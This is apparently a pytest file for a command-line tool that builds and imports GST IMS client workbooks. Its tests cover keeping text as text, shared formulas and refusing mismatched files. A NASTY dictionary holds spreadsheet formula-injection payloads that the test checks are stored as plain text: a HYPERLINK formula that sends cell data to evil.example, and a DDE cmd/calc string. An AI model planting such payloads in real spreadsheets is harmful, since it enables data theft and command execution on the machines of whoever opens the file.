"""``new`` and ``import``: client workbooks from the template, records appended, text kept as text."""

from __future__ import annotations

import json
import re
import zipfile
from xml.sax.saxutils import unescape
from pathlib import Path

import openpyxl
import pytest
from lctools import parts, sheet_part, table_rows

from ims_excel.cli import main
from ims_excel.cli.demo import sample_path
from ims_excel.formats import load
from ims_excel.book import imports as book_imports
from ims_excel.book import new as book_new
from ims_excel.book import process as book_process
from ims_excel.book import read as book_read
from ims_excel.xlsx.package import col_letters
from ims_excel.xlsx.package import Package
from ims_excel.xlsx.structured import has_array_constant, has_structured
from ims_excel.template import inward, outward
from ims_excel.template.build import build_workbook
from tests.support import synthetic

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "formats"
GSTIN = "27AAACR5055K1Z7"

NASTY = {  # what a spreadsheet would run as a formula if it were written as one
    "Supplier Name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "Document Number": "-2+3",
    "Remarks": "+cmd|' /C calc'!A0",
}


def _new(tmp_path: Path, name: str = "c.xlsm") -> Path:
    book = tmp_path / name
    assert main(["new", str(book), "--gstin", GSTIN, "--name", "Client & Co", "--period", "2026-10"]) == 0
    return book


def test_new_fills_config_and_refuses_to_overwrite(tmp_path, capsys):
    book = _new(tmp_path)
    with Package(book) as pkg:
        values, _ = book_read.read_config(pkg)
        props = pkg.custom_properties()
    assert values["RecipientGSTIN"] == GSTIN and values["LegalName"] == "Client & Co"
    assert values["ReturnPeriod"] == "2026-10" and values["FilingFrequency"] == "Monthly"
    assert props["IMSLayout"] == book_new.layout_signature() and props["IMSPackageVersion"]
    assert "xl/vbaProject.bin" in parts(book)
    capsys.readouterr()
    assert main(["new", str(book), "--gstin", GSTIN, "--period", "2026-10"]) == 2
    assert "exists already" in capsys.readouterr().err
    assert main(["new", str(tmp_path / "x.xlsm"), "--gstin", "27AAACR5055K1Z8", "--period", "2026-10"]) == 2
    assert "not a valid GSTIN" in capsys.readouterr().err
    assert not (tmp_path / "x.xlsm").exists()


def test_import_appends_records_and_leaves_existing_ones_alone(tmp_path, capsys):
    book = _new(tmp_path)
    assert main(["import", str(book), str(sample_path("sample_inward.csv"))]) == 0
    rows = table_rows(book)
    assert len(rows) == 34 and rows[0]["Section"] != ""  # the template's blank row was used, not skipped
    assert {r["Document Number"] for r in rows} >= {"000123", "1234567890123456"}  # text stays text
    # a person decides in the workbook, then the download is imported again
    wb = openpyxl.load_workbook(book, keep_vba=True)
    ws = wb["Inward"]
    header = [c.value for c in ws[1]]
    ws.cell(2, header.index("Action") + 1, "Reject")
    ws.cell(2, header.index("Remarks") + 1, "goods not received")
    wb.save(book)
    capsys.readouterr()
    assert main(["import", str(book), str(sample_path("sample_inward.csv"))]) == 0
    assert "Inward: 0 added" in capsys.readouterr().out
    again = table_rows(book)
    assert len(again) == 34
    assert again[0]["Action"] == "Reject" and again[0]["Remarks"] == "goods not received"
    with Package(book) as pkg:
        assert pkg.table("Inward").ref == f"A1:{pkg.table('Inward').ref.split(':')[1][:-2]}35"


def test_import_portal_json_and_outward(tmp_path):
    book = _new(tmp_path)
    portal = load(FIXTURES / "ims_offline_download.json")
    rep = book_imports.import_sources(book, [FIXTURES / "ims_offline_download.json", sample_path("sample_outward.csv")])
    assert rep.added == {"Inward": len(portal), "Outward": 5}
    assert len(table_rows(book)) == len(portal)
    assert len(table_rows(book, "Outward")) == 5
    inward = book_read.load_book(book).inward.frame
    assert sorted(inward["document_number"]) == sorted(portal["document_number"])
    assert inward["taxable_value"].sum() == pytest.approx(portal["taxable_value"].sum())


def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path):
    src = tmp_path / "nasty.csv"
    lines = (sample_path("sample_inward.csv")).read_text(encoding="utf-8").splitlines()
    header = lines[0].split(",")
    import csv
    import io

    reader = list(csv.reader(io.StringIO("\n".join(lines))))
    body = reader[1]
    for col, value in NASTY.items():
        body[header.index(col)] = value
    out = io.StringIO()
    csv.writer(out).writerows([reader[0], body])
    src.write_text(out.getvalue(), encoding="utf-8")
    book = _new(tmp_path)
    book_imports.import_sources(book, [src])
    book_process.process(book, backup=False)
    # the raw XML: inline strings, no formula element in those cells
    with zipfile.ZipFile(book) as z:
        xml = z.read(sheet_part(book, "Inward")).decode()
        val = z.read(sheet_part(book, "Validation")).decode()
    with Package(book) as pkg:
        columns = pkg.table("Inward").columns
    for col, value in NASTY.items():
        letters = col_letters(columns.index(col) + 1)
        cell = re.search(rf'<c r="{letters}2"[^>]*>.*?</c>', xml).group(0)
        assert 't="inlineStr"' in cell and "<f" not in cell, cell
    assert "<f>" not in val and "<f " not in val  # the Validation sheet holds values only
    # what programs that open the file see: text, not formulas
    ws = openpyxl.load_workbook(book, keep_vba=True)["Inward"]
    first = {c.value: c.column for c in ws[1]}
    for col, value in NASTY.items():
        cell = ws.cell(2, first[col])
        assert cell.value == value and cell.data_type == "s", col
    row = table_rows(book)[0]
    assert all(row[c] == v for c, v in NASTY.items())


def test_cells_below_the_table_are_never_overwritten(tmp_path, capsys):
    book = _new(tmp_path)
    wb = openpyxl.load_workbook(book, keep_vba=True)
    wb["Inward"]["A5"] = "our note"
    wb.save(book)
    before = book.read_bytes()
    code = main(["import", str(book), str(sample_path("sample_inward.csv"))])
    assert code == 2 and "row 5 below the Inward table is in use" in capsys.readouterr().err
    assert book.read_bytes() == before


def test_unusable_source_exits_2_and_writes_nothing(tmp_path, capsys):
    book = _new(tmp_path)
    bad = tmp_path / "bad.csv"
    bad.write_text("Section,Supplier GSTIN,Document Number,Document Date,IGST\n"
                   "B2B,29AAACS2222T1ZX,INV-1,2026-10-05,12O\n", encoding="utf-8")
    before = book.read_bytes()
    assert main(["import", str(book), str(bad)]) == 2
    assert "row 2, column 'IGST': '12O' is not an amount" in capsys.readouterr().err
    assert book.read_bytes() == before


def _formulas(book: Path) -> list[tuple[str, str, str]]:
    """(sheet part, kind, formula text) of every formula in the Inward and Outward sheets."""
    out = []
    with Package(book) as pkg:
        for t in pkg.tables():
            if t.name not in ("Inward", "Outward"):
                continue
            xml = pkg.text(t.sheet_part)
            for attrs, body in re.findall(r"<f\b([^>]*?)(?<!/)>([^<]*)</f>", xml):
                out.append((t.sheet_part, "shared" if 't="shared"' in attrs else "cell", unescape(body)))
    return out


def test_shared_formulas_are_in_the_form_excel_writes(tmp_path):
    """Issue 9: a shared formula holds A1 references only, no structured reference (Excel writes none,
    MS-XLS SharedParsedFormula has no place for one) and no array constant (MS-XLS forbids PtgArray in
    a shared formula, section 2.5.198.118); the table part keeps the structured calculated-column
    formula, as Excel does. Books: ``import --shared-formulas`` (twice: the second import appends a
    second shared group below the first), ``make_book`` and ``build_workbook(shared_formulas=True)``."""

    book = _new(tmp_path)
    for seed in (9, 10):
        csv = tmp_path / f"in{seed}.csv"
        synthetic.to_raw(synthetic.inward(40, seed=seed, period="2026-10")).to_csv(csv, index=False)
        assert main(["import", str(book), str(csv), "--shared-formulas", "--no-backup"]) == 0
    made = book_new.make_book(tmp_path / "made.xlsm", synthetic.inward(30, seed=2), synthetic.outward(20, seed=2),
                             {"gstin": GSTIN, "period": "2026-10"}, shared_formulas=True)
    built = build_workbook(tmp_path / "built.xlsm", synthetic.to_raw(synthetic.inward(30, seed=4)),
                           synthetic.to_raw(synthetic.outward(20, seed=4), "outward"), shared_formulas=True)
    for b in (book, made, built):
        found = _formulas(b)
        shared = [f for _, kind, f in found if kind == "shared"]
        assert len(shared) >= len(inward.COMPUTED) + len(outward.COMPUTED), b  # every computed column
        assert [f for f in shared if has_structured(f) or has_array_constant(f)] == [], b
        assert all("$" in f for f in shared)  # A1 references
        with Package(b) as pkg:
            formulas = pkg.table("Inward").formulas
        assert formulas and all("Inward[[#This Row]," in f for f in formulas.values() if "Inward[" in f)
    with Package(book) as pkg:
        xml = pkg.text(pkg.table("Inward").sheet_part)
    groups = re.findall(r'<f t="shared" ref="([A-Z]+)(\d+):[A-Z]+(\d+)" si="(\d+)"', xml)
    assert len({si for *_, si in groups}) == len(groups)  # the second import's groups have new indices
    assert {(int(a), int(b)) for _, a, b, _ in groups} == {(2, 41), (42, 81)}


def _online_download(path: Path) -> Path:
    """An Excel download with one header row and no Previous Status column (the online dashboard's)."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "B2B"
    ws.append(["GSTIN of supplier", "Trade/Legal name", "Invoice number", "Invoice type", "Invoice Date",
               "Invoice Value", "Status", "Place of supply", "Taxable Value", "Integrated Tax", "Central Tax",
               "State/UT Tax", "Cess", "Source", "Source Return Period", "Source Filing Status"])
    ws.append(["29AAACS2222T1ZX", "Kaveri", "000123", "Regular", "05-10-2026", 11800, "Accepted", "29-Karnataka",
               10000, 1800, 0, 0, 0, "GSTR-1/IFF", "102026", "Filed"])
    ws.append(["29AAACS2222T1ZX", "Kaveri", "INV-2", "Regular", "06-10-2026", 1180, "Rejected", "29-Karnataka",
               1000, 180, 0, 0, 0, "GSTR-1/IFF", "102026", "Filed"])
    wb.save(path)
    return path


def test_online_excel_without_previous_status_exports_nothing(tmp_path, capsys):
    """An Excel download without a Previous Status column: its Status is the portal's saved state (as the IMS
    JSON reader reads ``action``), so importing it into a new book and exporting uploads nothing (before,
    every record went back to the portal)."""
    book = _new(tmp_path)
    assert main(["import", str(book), str(_online_download(tmp_path / "online.xlsx"))]) == 0
    rows = table_rows(book)
    assert [(r["Action"], r["Previous Action"]) for r in rows] == [("Accept", "Accepted"), ("Reject", "Rejected")]
    out = tmp_path / "up.json"
    assert main(["export", str(book), "--out", str(out)]) == 0
    assert json.loads(out.read_text(encoding="utf-8"))["invdata"] == {}


def test_import_refuses_another_clients_file(tmp_path, capsys):
    """A file whose recipient GSTIN (an IMS JSON's ``rtin``, the offline utility's Home!C5, a GSTR-2B's
    ``data.gstin``) is not the workbook's is refused before anything is written, naming the file, both GSTINs
    and where each was read; the same file for this workbook's GSTIN is imported."""
    from tests.formats.formats_helpers import build_portal_workbook

    book = _new(tmp_path)
    other = "29AAACS2222T1ZX"
    upload = tmp_path / "other.json"
    upload.write_text(json.dumps({"rtin": other, "reqtyp": "SAVE", "invdata": {"b2b": [
        {"stin": "27AAACB2222B1ZJ", "inum": "X-1", "idt": "05-10-2026", "val": 118, "txval": 100, "iamt": 18,
         "action": "R"}]}}), encoding="utf-8")
    utility = build_portal_workbook(tmp_path / "utility.xlsx")  # Home!C5 = 29AAACS2222T1ZX
    gstr2b = FIXTURES / "gstr2b.json"  # data.gstin = 29AAACS2222T1ZX
    before = book.read_bytes()
    for src, where in ((upload, "rtin"), (utility, "sheet 'Home', cell C5"), (gstr2b, "data.gstin")):
        capsys.readouterr()
        assert main(["import", str(book), str(sample_path("sample_inward.csv")), str(src)]) == 2
        err = capsys.readouterr().err
        assert f"{src}: is for recipient GSTIN {other} ({where}), not this workbook's {GSTIN}" in err
        assert "Recipient GSTIN (Config!" in err and "Nothing was imported" in err
        assert book.read_bytes() == before
    # the same file addressed to this workbook is imported
    upload.write_text(upload.read_text(encoding="utf-8").replace(other, GSTIN.lower()), encoding="utf-8")
    assert main(["import", str(book), str(upload)]) == 0
    assert [r["Document Number"] for r in table_rows(book)] == ["X-1"]


def test_an_amendment_without_its_original_is_refused_and_nothing_written(tmp_path, capsys):
    """A canonical CSV with a B2BA row whose Original Document Number/Date are blank: the import exits 2 naming
    the file, row and column (as for a negative amount) and the workbook is untouched; before, the row was
    imported and exported as "oinum":""."""
    book = _new(tmp_path)
    src = tmp_path / "amd.csv"
    src.write_text("Section,Supplier GSTIN,Document Number,Document Date,Taxable Value,IGST,Action,"
                   "Original Document Number,Original Document Date\n"
                   "B2B,29AAACS2222T1ZX,INV-1,05-10-2026,100,18,Reject,,\n"
                   "B2BA,29AAACS2222T1ZX,INV-9R,25-10-2026,100,18,Reject,,\n", encoding="utf-8")
    before = book.read_bytes()
    assert main(["import", str(book), str(src)]) == 2
    err = capsys.readouterr().err
    assert f"{src}, row 3, column 'Original Document Number': is blank: an amendment" in err
    assert f"{src}, row 3, column 'Original Document Date': is blank" in err
    assert book.read_bytes() == before
